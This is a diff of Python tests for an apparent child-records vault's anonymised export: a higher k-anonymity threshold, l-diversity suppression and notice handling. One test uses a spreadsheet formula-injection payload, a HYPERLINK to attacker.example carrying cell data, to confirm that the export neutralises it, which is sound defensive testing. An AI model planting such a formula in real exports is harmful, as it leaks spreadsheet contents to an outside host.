@@ -18,6 +18,7 @@ from childvault.cli.main import cli
 from childvault.keys import AccessDenied, DecryptionFailed, LocalProvider, UsageError
 from childvault.vault import NewRecordInput, Vault
 from childvault.vault._reports import age_band, neutralise_cell
+from tests.compliance._notice import filled_notice
 from tests.conftest import PASSPHRASES, World, child_values, consent
 
 QUASI_COLUMNS = [
@@ -78,7 +79,9 @@ def test_export_is_k_anonymous_consented_and_free_of_direct_identifiers(
             "sex": sex,
             "date_of_birth_age_band": "6-11",
             "address_district": "北京市朝阳区",
-            "difficulty_category": "poverty",
+            # Every child of each group has the same category: l-diversity
+            # suppresses it (issue 15 finding 5).
+            "difficulty_category": "suppressed",
             "count": "6",
         }
         for sex in ("female", "male")
@@ -109,7 +112,7 @@ def test_export_excludes_expired_records_and_outdated_notices(world: World, tmp_
 
     template = resources.files("childvault.vault").joinpath("data/notice-template.md").read_bytes()
     with world.open("admin") as v:
-        v.publish_notice("2025-9", "旧版告知书 / old notice\n".encode())
+        v.publish_notice("2025-9", filled_notice("旧版告知书 / old notice"))
     with world.open("worker1") as v:
         _add(v, range(7, 9), purposes=("statistics",), notice_version="2025-9")
     with world.open("admin") as v:
@@ -119,7 +122,7 @@ def test_export_excludes_expired_records_and_outdated_notices(world: World, tmp_
         _add(v, range(5, 7), purposes=("statistics",), retain_until=date(2027, 1, 1))
     world.clock.now = datetime(2027, 2, 1, 9, 0, tzinfo=UTC)
     with world.open("officer1") as v:
-        summary = v.export_anonymized(tmp_path / "s.csv", k=2)
+        summary = v.export_anonymized(tmp_path / "s.csv", k=3)
     assert summary["excluded"] == {
         "no_statistics_consent": 0,
         "past_retention": 2,
@@ -167,7 +170,7 @@ def test_a_failed_release_leaves_the_logged_batch_an_error_entry_and_no_file(
     monkeypatch.setattr(LocalProvider, "release", broken)
     out = tmp_path / "s.csv"
     with world.open("officer1") as v, pytest.raises(DecryptionFailed):
-        v.export_anonymized(out, k=2)
+        v.export_anonymized(out, k=3)
     assert not out.exists()
     entries = _export_entries(world)
     assert [(e["outcome"], e["detail"]["stage"]) for e in entries] == [
@@ -190,7 +193,7 @@ def test_only_officers_export_and_refusals_are_logged(
 
 def test_export_parameters_are_checked(world: World, tmp_path: Path) -> None:
     with world.open("officer1") as v:
-        for k in (1, 0, True):
+        for k in (2, 1, 0, True):
             with pytest.raises(UsageError):
                 v.export_anonymized(tmp_path / "s.csv", k=k)
         with pytest.raises(UsageError, match="does not exist"):
@@ -214,10 +217,10 @@ def test_formula_in_a_generalised_value_is_neutralised_end_to_end(
     evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
     monkeypatch.setattr(reports, "district_of", lambda _address: evil)
     with world.open("worker1") as v:
-        _add(v, range(4), purposes=("statistics",))
+        _add(v, range(6), purposes=("statistics",))
     out = tmp_path / "s.csv"
     with world.open("officer1") as v:
-        v.export_anonymized(out, k=2)
+        v.export_anonymized(out, k=3)
     rows = _rows(out)
     assert {r["address_district"] for r in rows} == {"'" + evil}
     raw = out.read_text(encoding="utf-8-sig")
